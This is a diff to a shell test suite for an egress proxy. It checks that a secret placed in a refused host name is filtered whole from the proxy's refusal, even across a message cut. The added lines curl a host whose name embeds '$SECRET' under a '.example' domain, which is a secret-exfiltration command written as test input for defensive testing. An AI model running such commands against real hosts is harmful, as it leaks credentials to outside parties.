@@ -86,6 +86,13 @@ run_cmd "curl -s -o /dev/null https://$SECRET.example/" build
 check_match "a secret in a host name the proxy refused is filtered" "$(detail_of proxy)" \
 	"^the egress proxy refused: host '\[filtered: vault key\]\.example' port 443 is not on the allowlist"
 check_eq "... nowhere in the reply" "$(grep -c vault-denial <<<"$BODY")" 0
+# ... whole, across byte 199 of the proxy's sentence, where the front once
+# cut it before the filter (review s38 M1).
+LABEL=$(printf 'a%.0s' $(seq 59))
+run_cmd "curl -s -o /dev/null https://$LABEL.$LABEL.$LABEL.$SECRET.example/" build
+check_match "a secret across byte 199 of the proxy's refusal is filtered whole" "$(detail_of proxy)" \
+	"^the egress proxy refused: host '$LABEL\\.$LABEL\\.$LABEL\\.\\[filtered"
+check_eq "... no piece of it in the reply" "$(grep -c -e vault-den -e sk-vault <<<"$BODY")" 0
 # The person's socket, named with the secret; the listener says when it
 # listens (a line on a pipe), so nothing waits on a clock.
 exec {ready}< <(exec python3 -c "import socket, sys; s = socket.socket(socket.AF_UNIX); s.bind('$WS/$SECRET.sock'); s.listen(1); print('ready', flush=True); sys.stdin.read()" </dev/null)
